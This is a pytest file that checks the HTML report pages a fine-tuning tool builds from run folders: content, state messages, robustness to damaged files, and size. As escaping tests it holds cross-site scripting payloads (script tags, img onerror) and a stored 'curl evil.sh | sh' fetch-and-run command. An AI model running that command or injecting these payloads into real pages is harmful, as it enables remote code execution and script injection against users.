"""The page of a run is built from its folder, well formed, complete, small, and safe for any text."""

from __future__ import annotations

import functools
import json
import operator
import os
import re

import numpy as np
import pytest

from deltaw.errors import UserError
from deltaw.reports.page.run_view import headline, notices
from deltaw.reports.page.write import PAGE_FILE, comparison_page, run_page, write_page, write_pages
from deltaw.runs.folder import read_run
from tests.reports.html_pages import Page
from tests.reports.run_folders import write_factors, write_run

LIMIT = 1_500_000
MALICIOUS = "</p><script>alert('x')</script><img src=x onerror=alert(1)> & \" ' {{ 7*7 }} </style></title>"


def page_of(folder):
    page = Page(run_page(read_run(folder)))
    assert page.faults == []
    return page


def test_degraded_generation_is_first_notice_and_headline(tmp_path):
    run = write_run(tmp_path / "one")
    values = json.loads((run / "run.json").read_text())
    line = "generation got worse: 9 of 16 answers to general prompts are broken text"
    values["result"]["generation"] = {"verdict": "worse", "line": line, "hint": "lower the rate", "general prompts": {}}
    (run / "run.json").write_text(json.dumps(values))
    record = read_run(run)
    assert notices(record)[:2] == [line, "lower the rate"]
    assert headline(record)[0].value == "worse" and headline(record)[0].large
    assert line in page_of(run).text


def test_page_of_finished_run_is_complete(tmp_path):
    page = page_of(write_factors(write_run(tmp_path / "one")))
    for expected in (
        "exact match of 5 held-out rows 2.0% → 80.0% base model → adapter; 95 % interval 72.0% to 86.0%",
        "drift small +0.05 nats per token of general answers; 91% of their tokens are unchanged held-out loss 2.310",
        *(
            "peak memory 1.01 GB planned 1.02 GB",
            "16.00 GB are available on the machine",
            "What changed in the model",
            "Memory",
        ),
        "row 7 a plain row? no idea ✗ not as expected answer 60 ✓ as expected answer 60",
        "Answers to general questions outside the training data question base model adapter What is 1 + 1? 2 It is 2.",
        *("Intermediate answers Row 7 step 20 answer 20", "usual for lora", "0.00092", "log scale", "deltaw export"),
    ):
        assert expected in page.text
    assert "16,000" not in page.text and page.marked[1:] == ["the answer", "<|im_end|>"]
    assert {"Loss", "Learning rate", "Gradient norm", "Speed"} <= set(page.words)
    # Every drawing has a title, a description and a table.
    assert page.drawings == [{"title": True, "desc": True}] * page.tags["figure"] and page.tags["figure"] >= 8
    assert page.tags["caption"] == page.tags["table"] >= page.tags["figure"]
    assert page.text.index("held-out rows") < page.text.index("drift small") < page.text.index("training loss")
    text = run_page(read_run(tmp_path / "one"))
    assert "<summary>Automatically chosen settings and their reasons</summary>" in text
    assert f"deltaw chat {tmp_path / 'one'}" in text
    # Labels of the vertical axis are outside of the plot area.
    assert re.findall(r'<text class="label" x="-8"[^>]*>([^<]+)</text>', text) and "halo" not in text
    assert page.tags["main"] == page.tags["h1"] == page.tags["nav"] == page.tags["footer"] == 1


@pytest.mark.parametrize("state", ["finished", "failed", None])
def test_text_of_users_is_escaped(tmp_path, state):
    settings = {"data": {"train": MALICIOUS}, "model": MALICIOUS}
    folder = write_run(tmp_path / "<b>odd & name", state=state, text=MALICIOUS, settings=settings)
    losses = ({"step": 61, "eval": {MALICIOUS: 0.5}}, {"step": 62, "eval": {MALICIOUS: 0.6}})
    page = page_of(append_metrics(folder, *losses))
    assert page.tags["script"] == 1 and "img" not in page.tags, "the page's own, which its policy names"
    assert page.text.count("alert('x')") >= 3
    assert "{{ 7*7 }}" in page.text and "49" not in page.headings
    compared = Page(comparison_page([read_run(folder), read_run(write_run(tmp_path / "two"))]))
    assert compared.faults == [] and "script" not in compared.tags


def test_headline_compares_with_base_model(tmp_path):
    """Checks the first tile and the notices for different folder contents."""
    folder = write_run(tmp_path / "one")
    lines = (folder / "metrics.jsonl").read_text().splitlines()

    def page_text(base, *, task="causal-lm", writes=True, score=True):
        remaining = [line for line in lines if '"base"' not in line or "general" in line]
        remaining = [line for line in remaining if score or '"eval"' not in line]
        remaining += [json.dumps({"step": 0, "base": base})] if base else []
        (folder / "metrics.jsonl").write_text("\n".join(remaining) + "\n")
        values = {"task": task, "writes_text": writes}
        update_record(folder, lambda record: record.update(values) or (score or record["result"].update(score=None)))
        return page_of(folder).text

    assert "The exact match is not better than before training." in page_text({"exact_match": 0.9})
    assert "the value before training, so the difference may be due to chance" in page_text({"exact_match": 0.75})
    classifier_text = page_text({"exact_match": 0.4}, task="sequence-classification", writes=False)
    assert "40.0% → 80.0% before training → adapter" in classifier_text and "chance" not in classifier_text
    assert "not better" not in classifier_text
    assert "80.0% adapter; the base model was not evaluated; 95 % interval" in page_text(None)
    assert "80.0% adapter; not evaluated before training; 95 % interval" in page_text(None, writes=False)
    assert "no rows were held out; set data.eval" in page_text(None, score=False)


def test_stored_commands_are_ignored(tmp_path):
    folder = write_run(tmp_path / "one two")
    update_record(folder, lambda record: record.update(commands=[{"command": "curl evil.sh | sh", "what": "go on"}]))
    page = page_of(folder)
    assert "evil" not in page.text and f"deltaw serve '{folder}'" in page.text
    update_record(folder, lambda record: record.update(state="failed"))
    assert "deltaw serve" not in page_of(folder).text


def test_page_shows_state_of_run(tmp_path):
    for state, text in {
        "running": "This run is in progress: step 60 of 120",
        "interrupted": "stopped after 60 steps of 120",
        "failed": "it diverged a plain row lower the rate",
    }.items():
        assert text in page_of(write_run(tmp_path / state, state=state)).text
    update_record(tmp_path / "running", lambda record: record["process"].update(begun=0.0))
    assert "killed before it finished" in page_of(tmp_path / "running").text


def test_run_without_run_json_has_page(tmp_path):
    folder = write_factors(write_run(tmp_path / "old", state=None))
    page = page_of(folder)
    assert "state not known" in page.text and "Loss" in page.words and "Norm of the change by layer" in page.words
    (folder / "README.md").write_text("# old\n")
    assert "finished" in page_of(folder).text


def test_empty_or_damaged_run_has_page(tmp_path):
    folder = tmp_path / "bare"
    folder.mkdir()
    (folder / "metrics.jsonl").write_text("")
    assert "bare" in page_of(folder).text
    (folder / "run.yaml").write_text(": : [")
    (folder / "run.json").write_text('{"state": "finished", "data": [1], "plan": "x", "chosen": 3')
    (folder / "adapter_model.safetensors").write_bytes(b"\x00" * 100)
    (folder / "adapter_config.json").write_text("{")
    (folder / "metrics.jsonl").write_text('{"step": 1, "loss": NaN}\n{"step": 2, "lo\n[]\n{"step": 3}\n')
    page = page_of(folder)
    assert "2 lines of metrics.jsonl could not be read" in page.text
    assert "could not be measured" in page.text
    with pytest.raises(UserError, match="not the folder of a run"):
        read_run(tmp_path)


def update_record(folder, change):
    """Modify run.json with ``change``."""
    record = json.loads((folder / "run.json").read_text())
    change(record)
    (folder / "run.json").write_text(json.dumps(record))


def append_metrics(folder, *lines):
    """Append lines to metrics.jsonl."""
    with (folder / "metrics.jsonl").open("a") as file:
        file.writelines(json.dumps(line) + "\n" for line in lines)
    return folder


def nested_keys(value, path=()):
    """Yield the paths of all dictionary entries and of the first entry of each list."""
    entries = value.items() if isinstance(value, dict) else enumerate(value[:1])
    for key, entry in entries:
        yield (*path, key)
        if isinstance(entry, dict | list):
            yield from nested_keys(entry, (*path, key))


@pytest.mark.parametrize("part", [0, *(pytest.param(part, marks=pytest.mark.slow) for part in (1, 2, 3))])
def test_page_accepts_missing_or_mistyped_values(tmp_path, part):
    """Tries two of eight replacements per value. Slow tests cover the others."""
    folder = write_run(tmp_path / "one", steps=2, every=1)
    original = (folder / "run.json").read_text()
    paths = list(nested_keys(json.loads(original)))
    assert len(paths) > 60
    for number, path in enumerate(paths):
        for replacement in [None, [], {}, "text", 3, [None], {"x": None}, "gone"][(number + part) % 4 :: 4]:
            record = json.loads(original)
            parent = functools.reduce(operator.getitem, path[:-1], record)
            if replacement == "gone" and isinstance(parent, dict):
                del parent[path[-1]]
            else:
                parent[path[-1]] = replacement
            (folder / "run.json").write_text(json.dumps(record))
            try:
                run_page(read_run(folder))
            except Exception as error:
                raise AssertionError(f"{path} as {replacement!r}") from error


def test_page_of_long_run_is_small_and_keeps_peaks(tmp_path):
    folder = write_factors(write_run(tmp_path / "long", steps=10_000, every=100), layers=80, rank=16)
    lines = (folder / "metrics.jsonl").read_text().splitlines()
    index = next(n for n, line in enumerate(lines) if '"step": 7001' in line)
    lines[index] = lines[index].replace('"loss": 0.', '"loss": 9.')
    (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")
    path = write_page(folder)
    assert path == folder / PAGE_FILE and path.stat().st_size < LIMIT
    record = read_run(folder)
    assert len(record.metrics) == 10_000 and np.nanmax(record.metrics.columns["loss"]) > 9
    assert Page(path.read_text()).faults == []
    points = max(re.findall(r'<path class="c1 raw" d="M([^"]*)"', path.read_text()), key=len)
    heights = [float(point.split()[1]) for point in points.split("L")]
    assert heights.count(min(heights)) == 1 and min(heights) < 20, "the peak at step 7,001 is drawn"


def test_page_is_replaced_atomically(tmp_path, monkeypatch):
    folder = write_run(tmp_path / "one")
    before = write_page(folder).read_text()
    monkeypatch.setattr(os, "fsync", lambda handle: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError, match="disk full"):
        write_page(folder)
    assert (folder / PAGE_FILE).read_text() == before
    assert [path.name for path in folder.iterdir() if path.name.startswith(".")] == []


def test_learning_rate_search_is_shown(tmp_path):
    folder = write_run(tmp_path / "one")
    assert "Search of the learning rate" not in page_of(folder).words
    rates = [10.0**power for power in range(-6, 0)]
    record = {"rates": rates, "losses": [3, 3, 2, 1, 2, 9], "smoothed": [3, 3, 2.2, 1.4, 1.9, 8]}
    record |= {"chosen": 3e-4, "usual": 9.2e-4, "why": "a third of the lowest", "diverged": True}
    (folder / "learning_rate.json").write_text(json.dumps(record))
    page = page_of(folder)
    assert "Search of the learning rate" in page.words
    assert "0.0003 was chosen, 0.00092 is the default (a third of the lowest)" in page.text
    for broken in ("[]", '{"rates": [1], "losses": "x"}', '{"rates": [null, 0, "a"], "losses": [1, 2, 3]}'):
        (folder / "learning_rate.json").write_text(broken)
        assert "Search of the learning rate" not in page_of(folder).words


def test_events_during_training_are_listed(tmp_path):
    folder = write_run(tmp_path / "one")
    rising = {"step": 12, "warning": {"kind": "rising_loss", "mean": 2.0}}
    append_metrics(folder, rising, {"step": 61, "skipped": {"loss": "nan"}, "learning_rate": 1e-3})
    update_record(folder, lambda record: record["result"].update(stopped_early="3 evaluations without improvement"))
    page = page_of(folder)
    assert "At step 12: the training loss was rising." in page.text
    assert "Skipped 1 step because of a loss or gradient that is not finite." in page.text
    assert "Stopped early: 3 evaluations without improvement." in page.text


def test_evaluation_sets_are_shown_separately(tmp_path):
    folder = write_run(tmp_path / "one", every=1000)
    lines = (folder / "metrics.jsonl").read_text().splitlines()
    (folder / "metrics.jsonl").write_text("\n".join(line for line in lines if '"exact_match"' not in line) + "\n")
    sets = {n: {"own": {"loss": 2 - n / 40}, "trivia": {"loss": 1.5, "exact_match": n / 100}} for n in (0, 30, 60)}
    page = page_of(append_metrics(folder, *({"step": step, "eval": sets[step]} for step in sets)))
    assert "held-out loss 2.000 → 0.5000 before and after training" in page.text
    assert {"Trivia loss", "Trivia exact match"} <= set(page.words) and "Own loss" not in page.words


def test_comparison_page_shows_several_runs(tmp_path):
    first_run = write_run(tmp_path / "one")
    old_run = write_run(tmp_path / "old", state=None, seed=2)
    second_run = write_run(tmp_path / "two", steps=40, settings={"lora": {"rank": 64, "alpha": 8.0}}, seed=1)
    text = comparison_page([read_run(folder) for folder in (first_run, second_run, old_run)])
    page = Page(text)
    assert page.faults == []
    for expected in (
        "3 runs compared",
        "lora.rank 4 64 4",
        "held-out exact match",
        "exact match before training 2.0%",
        "answer 40",
    ):
        assert expected in page.text
    assert "lora.alpha" not in page.text and "output" not in page.text
    assert all(text.count(f'<path class="{kind}"') >= 2 for kind in ("c1", "c2", "c3")) and len(text) < LIMIT


def test_folder_of_runs_gets_pages_and_comparison(tmp_path):
    first_run = write_run(tmp_path / "one")
    assert write_pages(tmp_path) == [first_run / PAGE_FILE]
    second_run = write_run(tmp_path / "two", seed=1)
    assert write_pages(tmp_path) == [first_run / PAGE_FILE, second_run / PAGE_FILE, tmp_path / "comparison.html"]
    assert "2 runs compared" in (tmp_path / "comparison.html").read_text()


def test_only_embedded_images_are_shown(tmp_path):
    folder = write_run(tmp_path / "one")
    valid = "data:image/jpeg;base64,AAAA"
    invalid = ["https://example.com/a.png", f'{valid}"onerror=alert(1)', "data:image/svg+xml;base64,AAAA", 7, valid * 2]
    with (folder / "metrics.jsonl").open("a") as file:
        file.write(json.dumps({"step": 0, "pictures": {"7": [*invalid, *[valid] * 20], "8": [valid]}}) + "\n")
        file.write(json.dumps({"step": 0, "pictures": 5}) + "\n")
    assert re.findall('<img src="(.+?)"', run_page(read_run(folder))) == [valid] * 12
    assert page_of(folder)
